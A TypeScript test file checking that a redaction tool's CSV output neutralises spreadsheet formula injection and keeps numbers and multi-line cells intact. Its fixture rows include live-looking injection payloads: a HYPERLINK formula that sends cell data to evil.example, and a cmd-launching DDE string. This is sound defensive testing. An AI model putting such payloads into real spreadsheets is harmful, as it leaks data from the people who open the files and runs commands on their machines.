/**
 * A redacted CSV copy opens as the same rows and runs nothing: cells that start like a formula
 * (OWASP's CSV injection: `=HYPERLINK(…)`, `+cmd|…`, `@SUM(…)`, `-1+…`) become text with a
 * leading apostrophe, plain signed numbers stay numbers, and a cell holding a line break stays
 * one cell — in the ordinary writer and in the streaming one for large files alike.
 */
import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { DEFAULT_REDACT_OPTIONS } from '../../src/pipeline/redactOptions.js';
import { runBatch } from '../../src/pipeline/runBatch.js';
import { inertCell } from '../../src/write/safeCsv.js';
import { makeTempDir, type TempDir } from './fixtures.js';

const ROWS = [
  ['client', 'note', 'amount'],
  ['Row one', 'first line\nsecond line jo.bloggs@example.org', '-42.50'],
  ['Row two', '=HYPERLINK("http://evil.example/?x="&A2,"click")', '+12'],
  ['Row three', '@SUM(1+1)', "-1+cmd|' /C calc'!A0"],
  ['Row four', '+44 20 7946 0958 call back', '1,200.00'],
];

function csvOf(rows: readonly (readonly string[])[]): string {
  const cell = (c: string) => (/[",\n]/.test(c) ? `"${c.replace(/"/g, '""')}"` : c);
  return rows.map((r) => r.map(cell).join(',')).join('\r\n') + '\r\n';
}

let dir: TempDir;
beforeAll(async () => {
  dir = await makeTempDir();
  await dir.file('in/ledger.csv', csvOf(ROWS));
  // Over the 1 MB threshold: the streaming writer (largeCsv) makes this copy.
  const filler = Array.from({ length: 12_000 }, (_, i) => [`Filler ${i}`, 'x'.repeat(80), '1.00']);
  await dir.file('big/ledger-large.csv', csvOf([...ROWS, ...filler]));
});
afterAll(() => dir.remove());

async function copyRows(out: string, name: string): Promise<string[][]> {
  const text = (await readFile(join(out, 'redacted', name), 'utf8')).replace(/^\ufeff/, '');
  return parse(text, { relax_column_count: true }) as string[][];
}

describe('CSV copies', () => {
  it('neutralise formula-like cells and keep multi-line cells in their row', async () => {
    for (const [input, name] of [
      ['in', 'ledger.csv'],
      ['big', 'ledger-large.csv'],
    ] as const) {
      const out = join(dir.path, `out-${input}`);
      const [result] = await runBatch([join(dir.path, input)], out, {
        ...DEFAULT_REDACT_OPTIONS,
        ner: false,
      });
      expect(result!.status, result!.error).toBe('ok');
      const rows = (await copyRows(out, name)).slice(0, ROWS.length);
      expect(rows.map((r) => r[0])).toEqual(ROWS.map((r) => r[0]));
      expect(rows[1]![1]).toBe('first line\nsecond line [EMAIL REDACTED]');
      expect(rows[2]![1]).toMatch(/^'=HYPERLINK\(/);
      expect(rows[2]![2]).toBe('+12');
      expect(rows[3]!.slice(1)).toEqual(["'@SUM(1+1)", "'-1+cmd|' /C calc'!A0"]);
      expect(rows[1]![2]).toBe('-42.50');
      expect(rows[4]![1]).toBe('[PHONE NUMBER REDACTED] call back');
      for (const row of rows)
        for (const c of row)
          expect(/^[=+@\t\r]|^-(?!\d)/.test(c) && !/^[+-][\d.,]+$/.test(c), c).toBe(false);
    }
  }, 120_000);

  it('leave numbers alone and mark everything that could start a formula', () => {
    for (const n of ['-42.50', '+12', '-1,234.00', '-5%', '+44']) expect(inertCell(n)).toBe(n);
    for (const f of [
      '=1+1',
      '+A1',
      '-A1',
      '@x',
      '\tx',
      '\r=1',
      '＝1+1',
      '-1+1',
      '+44 20 7946 0958',
    ])
      expect(inertCell(f)).toBe(`'${f}`);
    expect(inertCell('plain')).toBe('plain');
  });
});
